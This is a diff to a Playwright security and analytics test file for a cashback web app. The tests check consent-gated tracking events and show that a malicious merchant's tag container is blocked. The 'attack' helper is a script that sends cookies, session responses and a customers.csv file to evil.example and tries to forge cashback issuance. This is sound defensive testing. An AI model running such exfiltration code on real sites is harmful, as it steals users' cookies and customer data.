@@ -38,7 +38,7 @@ async function openCounterApi(request: APIRequestContext, merchant: Merchant) {
   };
 }
 
-/** The part of a code's link that nobody may guess. */
+/** The secret part of a code's link. */
 const tokenIn = (link: string) => link.slice(link.indexOf('_') + 1);
 const hashOf = (phone: string) => createHash('sha256').update(`+55${phone}`).digest('hex');
 const ownOrigin = (merchant: Merchant) => `http://${merchant.slug}.localhost:${process.env.JOURNEYS_PORT}`;
@@ -49,7 +49,7 @@ const answer = (page: Page, name: 'Aceitar' | 'Recusar') =>
 /** Long enough for anything that runs when the page is idle, and for what that asks for. */
 const settle = (page: Page) => page.waitForTimeout(800);
 
-test('a code is opened on the merchant’s own host: nothing before consent, then each event once, and nobody in any of them', async ({
+test('a code is opened on the merchant’s own host: nothing before consent, then each event once, and no personal data in any of them', async ({
   phone: page,
   request,
   merchant,
@@ -85,13 +85,13 @@ test('a code is opened on the merchant’s own host: nothing before consent, the
   const [row] = await asOwner<{ id: string }>('SELECT id FROM merchants WHERE signup_link_slug = $1', [
     merchant.slug,
   ]);
-  const [sale] = await asOwner<{ id: string }>(
+  const [purchase] = await asOwner<{ id: string }>(
     'SELECT id FROM transactions WHERE merchant_id = $1 ORDER BY created_at DESC',
     [row?.id],
   );
   const common = { merchantId: row?.id, customerPhone: hashOf(number) };
   const amounts = { ...common, amount: 123.45, cashbackAmount: 6.17 };
-  const event = (name: string) => ({ event: name, ...amounts, eventId: `${name}-${sale?.id}` });
+  const event = (name: string) => ({ event: name, ...amounts, eventId: `${name}-${purchase?.id}` });
   const isOurs = (item: unknown) => !/^gtm\./.test((item as { event?: string }).event ?? 'gtm.');
   expect(fakeTags.dataLayer().filter(isOurs)).toEqual([
     { event: 'PageView', merchantId: row?.id, screen: 'cashback', eventId: expect.any(String) },
@@ -112,10 +112,10 @@ test('a code is opened on the merchant’s own host: nothing before consent, the
       expect.objectContaining({ screen: 'cashback' }),
       { eventID: expect.any(String) },
     ],
-    ['track', 'AddToCart', { ...amounts, ...value }, { eventID: `CashbackGenerated-${sale?.id}` }],
-    ['track', 'Purchase', { ...amounts, ...value }, { eventID: `Purchase-${sale?.id}` }],
+    ['track', 'AddToCart', { ...amounts, ...value }, { eventID: `CashbackGenerated-${purchase?.id}` }],
+    ['track', 'Purchase', { ...amounts, ...value }, { eventID: `Purchase-${purchase?.id}` }],
   ]);
-  // What a container adds itself runs too: files from wherever, and custom HTML by the page's nonce.
+  // Tags that a container adds run too: files from any origin, and custom HTML by the page's nonce.
   for (const name of ['from-the-container.js', 'custom-html'])
     expect(fakeTags.sent.map(({ url }) => url)).toContain(`https://tags.example/${name}`);
 
@@ -272,19 +272,19 @@ test('tags that hang, are missing or break hold nothing up, and what they were n
   await expect.poll(fakeTags.events).toContain('Purchase');
 });
 
-/** What a container of a merchant that means harm would try; the answers go to where it could read them. */
+/** A malicious merchant's container tries this; the answers go where it could read them. */
 const attack = (app: string) => `
   const tell = (what, answer) => fetch('https://evil.example/?' + what, { method: 'POST', body: String(answer) }).catch(() => {});
   const call = (what, address, init) => fetch(address, { credentials: 'include', ...init })
     .then(async (answer) => tell(what, answer.type + ' ' + answer.status + ' ' + await answer.text()), () => tell(what, 'refused'));
   const json = (body) => ({ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
-  const sale = { operationId: '00000000-0000-4000-8000-000000000001', phone: '11987654321', amountCents: 100 };
+  const purchase = { operationId: '00000000-0000-4000-8000-000000000001', phone: '11987654321', amountCents: 100 };
   call('session', '${app}/trpc/auth.session');
-  call('issue', '${app}/trpc/cashback.issue', json(sale));
-  call('blind', '${app}/trpc/cashback.issue', { method: 'POST', mode: 'no-cors', body: JSON.stringify(sale) });
+  call('issue', '${app}/trpc/cashback.issue', json(purchase));
+  call('blind', '${app}/trpc/cashback.issue', { method: 'POST', mode: 'no-cors', body: JSON.stringify(purchase) });
   call('page', '${app}/settings', { mode: 'no-cors' });
   call('own-session', '/trpc/auth.session');
-  call('own-issue', '/trpc/cashback.issue', json(sale));
+  call('own-issue', '/trpc/cashback.issue', json(purchase));
   call('own-file', '/files/customers.csv');
   tell('cookie', document.cookie);
   const frame = document.createElement('iframe');
@@ -337,11 +337,11 @@ test.describe('without the help of the page’s own policy, which keeps it from 
       frame: expect.stringMatching(/^(?:refused|undefined|null)$/),
     });
     expect(cookies.filter((each) => each.includes('session'))).toEqual([]);
-    const sales = await asOwner(
+    const purchases = await asOwner(
       'SELECT t.amount_cents FROM transactions t JOIN merchants m ON m.id = t.merchant_id WHERE m.signup_link_slug = $1',
       [merchant.slug],
     );
-    expect(sales).toHaveLength(1);
+    expect(purchases).toHaveLength(1);
 
     for (const address of ['/login', '/dashboard', '/settings', '/customers', `/signup/ninguem`]) {
       const answered = await request.get(address);
